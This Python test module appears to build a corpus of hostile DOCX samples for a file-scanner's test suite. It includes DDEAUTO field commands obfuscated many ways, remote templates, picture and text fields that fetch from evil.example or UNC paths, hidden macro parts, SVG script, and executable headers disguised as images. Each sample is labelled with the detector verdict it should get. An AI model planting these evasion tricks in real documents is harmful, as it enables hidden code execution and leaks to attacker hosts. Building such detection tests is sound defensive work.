"""DOCX: what Word and other programs write, and what hides in relations, types, fields and parts."""

from tests.integrations.compound_files import compound
from tests.integrations.file_samples import RELATIONSHIPS, WORD, docx, relationships
from tests.integrations.office_corpus.docx_honest import HONEST
from tests.integrations.office_corpus.docx_parts import (
    CHANGED,
    MC_NAMES,
    VML_NAMES,
    drawing,
    field,
    mark,
    nested,
    of,
    part,
    related,
    runs,
    typed,
)
from tests.integrations.office_corpus.table import (
    ACTIVE,
    COMPLEX,
    DAMAGED,
    DISGUISED,
    ENCRYPTED,
    FIELD_UNC,
    MACROS,
    REMOTE,
    UNC,
    UNKNOWN,
    Hostile,
)

__all__ = ["HONEST", "HOSTILE"]

_DDE = field("DDEAUTO x")
_FIELDS_ACTIVE = {
    "nested QUOTE": field(nested("QUOTE 68 68 69 65 85 84 79") + runs(" c:\\\\x")),
    "nested half": field(runs(" D") + nested("QUOTE DE") + runs("AUTO x")),
    "QUOTE with codes": field("QUOTE 68 68 69 65 85 84 79 32 99"),
    "QUOTE with hexadecimal codes": field("QUOTE 0x44 0x44 0x45"),
    "a tab": field("<w:r><w:tab/></w:r>" + runs("DDE x")),
    "a tab letter": field("\tDDEAUTO x"),
    "a line": field("<w:r><w:br/><w:cr/></w:r>" + runs("DDE x")),
    "pieces": field(runs(" D", "D", "E", "AU", "TO x")),
    "plain text in the instruction": field(runs("D") + "<w:r><w:t>DE</w:t></w:r>" + runs(" x")),
    "zero-width letters": field("D\u200bD\u00adE\u200d x"),
    "small letters": field("ddeauto x"),
    "quotes": field("&quot;DDEAUTO&quot; x"),
    "letters by entity": field("&#68;&#x44;E x"),
    "section of data": field("<w:r><w:instrText><![CDATA[DDE]]> x</w:instrText></w:r>"),
    "simple field": '<w:p><w:fldSimple w:instr=" DDE x"/></w:p>',
    "simple field in a field": field("<w:fldSimple w:instr='DDE x'/>" + runs("= 1")),
    "symbols": field(
        "".join(f'<w:r><w:sym w:font="Arial" w:char="F0{ord(x):02x}"/></w:r>' for x in "DDE") + runs(" x")
    ),
    "taken-out letters": field(
        runs("D") + CHANGED.format("<w:r><w:delInstrText>XX</w:delInstrText></w:r>") + runs("DE x")
    ),
    "taken-out text": field(CHANGED.format("<w:r><w:delInstrText>DDE x</w:delInstrText></w:r>")),
    "moved letters": field(runs("D") + "<w:moveFrom><w:r><w:t>XX</w:t></w:r></w:moveFrom>" + runs("DE x")),
    "a choice": field(
        f"{runs('D')}<mc:AlternateContent {MC_NAMES}><mc:Choice Requires='x'>{runs('DE')}</mc:Choice>"
        f"<mc:Fallback>{runs('XX')}</mc:Fallback></mc:AlternateContent>{runs(' x')}"
    ),
    "bound data": field(
        runs("D") + "<w:sdt><w:sdtPr><w:dataBinding w:xpath='/a'/></w:sdtPr><w:sdtContent><w:r><w:t>X</w:t></w:r>"
        "</w:sdtContent></w:sdt>" + runs(" x")
    ),
    "a field without an end": f"<w:p>{mark('begin')}{runs('DDE x')}</w:p>",
    "a field over paragraphs": f"<w:p>{mark('begin')}</w:p><w:p>{runs('DDE x')}{mark('end')}</w:p>",
    "a result": field("PAGE", nested("DDE x")),
    "a table": f"<w:tbl><w:tr><w:tc>{_DDE}</w:tc></w:tr></w:tbl>",
    "capitals of a mark": f"<w:p>{mark('BEGIN')}{runs('DDE x')}{mark('END')}</w:p>",
}

HOSTILE: Hostile = {f"docx: DDE by {how}": (docx(body=body), ACTIVE) for how, body in _FIELDS_ACTIVE.items()}
HOSTILE |= {
    f"docx: DDE in {name}": (docx({name: part(_DDE)}), ACTIVE)
    for name in ("word/header1.xml", "hdr/header1.xml", "word/HEADER1.XML", "header1.bin", "media/h.jpg", "x")
}
HOSTILE |= {
    "docx: DDE in UTF-16": (docx({"word/h": part(_DDE).encode("utf-16")}), ACTIVE),
    "docx: DDE in a part of a declared type": (
        docx({"[Content_Types].xml": typed(("/w/h.dat", f"{WORD}.header+xml")), "w/h.dat": "\n\n" + part(_DDE)}),
        ACTIVE,
    ),
    "docx: template, upper case": (
        related("attachedTemplate", "http://evil.example/t", part="word/_rels/settings.xml.RELS"),
        REMOTE,
    ),
    "docx: template, folder in capitals": (
        related("attachedTemplate", "http://evil.example/t", part="word/_RELS/settings.xml.rels"),
        REMOTE,
    ),
    "docx: template, name escaped": (
        related("attachedTemplate", "http://evil.example/t", part="word/_rels/settings.xml.%72els"),
        REMOTE,
    ),
    "docx: template, relations of a declared type": (
        docx(
            {
                "[Content_Types].xml": typed(("/word/x", "application/vnd.openxmlformats-package.relationships+xml")),
                "word/x": relationships(("attachedTemplate", "http://evil.example/t", True)),
            }
        ),
        REMOTE,
    ),
    "docx: template in a strict document": (
        docx(
            {
                "word/_rels/settings.xml.rels": relationships(("attachedTemplate", UNC, True)).replace(
                    RELATIONSHIPS, "http://purl.oclc.org/ooxml/officeDocument/relationships"
                )
            }
        ),
        REMOTE,
    ),
    "docx: template, mode in capitals": (
        docx({"word/_rels/s.xml.rels": relationships(("attachedTemplate", UNC, True)).replace("External", "EXTERNAL")}),
        REMOTE,
    ),
    "docx: picture field on a server": (of(f'INCLUDEPICTURE "{FIELD_UNC}"'), REMOTE),
    "docx: picture field behind a switch": (of(f'INCLUDEPICTURE \\d\\c "PNG32" "{FIELD_UNC}"'), REMOTE),
    "docx: picture field with a computed address": (
        docx(body=field(runs("INCLUDEPICTURE ") + nested("REF x"))),
        REMOTE,
    ),
    "docx: picture field of a script": (of('INCLUDEPICTURE "javascript:x"'), REMOTE),
    "docx: text field on a server": (of(f'INCLUDETEXT "{FIELD_UNC}"'), REMOTE),
    "docx: text field by file address": (of('INCLUDETEXT "file:////evil.example/x"'), REMOTE),
    "docx: text field with a style sheet": (of('INCLUDETEXT "a.xml" \\t "http://evil.example/x.xsl"'), REMOTE),
    "docx: device path": (of(r'INCLUDEPICTURE "\\\\?\\UNC\\evil.example\\x"'), REMOTE),
    "docx: picture on a server": (related("image", UNC), REMOTE),
    "docx: picture by file address": (related("image", "file://evil.example/x.png"), REMOTE),
    "docx: picture by escaped address": (related("image", "file:%2f%2fevil.example/x.png"), REMOTE),
    "docx: picture by WebDAV": (related("image", "//evil.example@80/x.png"), REMOTE),
    "docx: picture by an odd scheme": (related("image", "ms-word:ofe|u|http://evil.example/x"), REMOTE),
    "docx: picture in VML": (
        docx(body=f'<w:pict {VML_NAMES}><v:shape><v:imagedata src="file://evil.example/x.png"/></v:shape></w:pict>'),
        REMOTE,
    ),
    "docx: linked film": (related("video", "https://evil.example/x.mp4"), REMOTE),
    "docx: linked frame": (related("frame", "https://evil.example/x"), REMOTE),
    "docx: linked part of the document": (related("subDocument", UNC), REMOTE),
    "docx: data of a mail merge": (related("mailMergeSource", f"file:///{UNC}"), REMOTE),
    "docx: connection of a mail merge": (
        docx({"word/settings.xml": part('<w:connectString w:val="Provider=SQLOLEDB;Data Source=evil"/>', "settings")}),
        REMOTE,
    ),
    "docx: relation of no known type outside": (related("madeUp", "https://evil.example/x"), REMOTE),
    "docx: style sheet of a part": (docx({"x.xml": '<?xml-stylesheet href="http://evil.example/x"?><a/>'}), REMOTE),
    "docx: document type from the web": (docx({"x.xml": '<!DOCTYPE a SYSTEM "http://evil.example/x"><a/>'}), DAMAGED),
    "docx: linked object": (related("oleObject", "https://evil.example/x.html!"), ACTIVE),
    "docx: linked package": (related("package", "https://evil.example/x.xlsx"), ACTIVE),
    "docx: web page inside": (related("aFChunk", "x.html", external=False), ACTIVE),
    "docx: control": (related("control", "activeX1.xml", external=False), ACTIVE),
    "docx: macros by relation": (related("vbaProject", "x.dat", external=False), MACROS),
    "docx: macros by relation, in capitals": (related("VBAPROJECT", "x.dat", external=False), MACROS),
    "docx: macros by type": (
        docx({"[Content_Types].xml": typed(("/word/x", "application/vnd.ms-office.vbaProject")), "word/x": b"x"}),
        MACROS,
    ),
    "docx: macros by default type": (
        docx(
            {
                "[Content_Types].xml": typed(
                    defaults='<Default Extension="BIN" ContentType="application/vnd.ms-office.vbaProject"/>'
                ),
                "word/x.bin": b"x",
            }
        ),
        MACROS,
    ),
    "docx: macros by content": (docx({"word/media/image1.png": compound({"VBA": {"dir": b"x"}})}), MACROS),
    "docx: key that runs a macro": (
        docx(
            {
                "word/customizations.xml": '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
                '<wne:keymaps><wne:keymap><wne:macro wne:macroName="X"/></wne:keymap></wne:keymaps></wne:tcg>'
            }
        ),
        MACROS,
    ),
    "docx: script in a drawing": (docx({"word/media/a.svg": drawing("<script>x</script>")}), ACTIVE),
    "docx: event in a drawing": (docx({"word/media/a.svg": drawing(attributes='onload="x()"')}), ACTIVE),
    "docx: drawing that fetches": (
        docx({"word/media/a.svg": drawing('<image xlink:href="//evil/x"/>')}),
        REMOTE,
    ),
    "docx: drawing with a style that fetches": (
        docx({"word/media/a.svg": drawing("<style>@import '//evil/x';</style>")}),
        REMOTE,
    ),
    "docx: program in a picture": (docx({"word/media/a.png": b"MZ\x90\0" + bytes(99)}), ACTIVE),
    "docx: shortcut in a picture": (docx({"word/media/a.png": b"L\0\0\0\x01\x14\x02\0" + bytes(99)}), ACTIVE),
    "docx: a part in pieces": (docx({"word/x.xml/[0].piece": "<a/>"}), DAMAGED),
    "docx: two lists of types": (docx({"[CONTENT_TYPES].xml ".strip() + "x": "<a>", "x": "<a>"}), DAMAGED),
    "docx: two main parts": (
        docx(
            {
                "_rels/.rels": relationships(
                    ("officeDocument", "word/document.xml", False), ("officeDocument", "x.xml", False)
                ),
                "x.xml": "<a/>",
            }
        ),
        DAMAGED,
    ),
    "docx: two kinds at once": (docx({"mimetype": "application/vnd.oasis.opendocument.text"}), DISGUISED),
    "docx: sheet renamed": (
        docx(main_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        UNKNOWN,
    ),
    "docx: macros in the type of the main part": (
        docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACROS,
    ),
    "docx: too many fields": (docx(body=f"<w:p>{mark('begin')}{mark('end')}</w:p>" * 100_001), COMPLEX),
    "docx: password": (compound({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(99)}), ENCRYPTED),
}
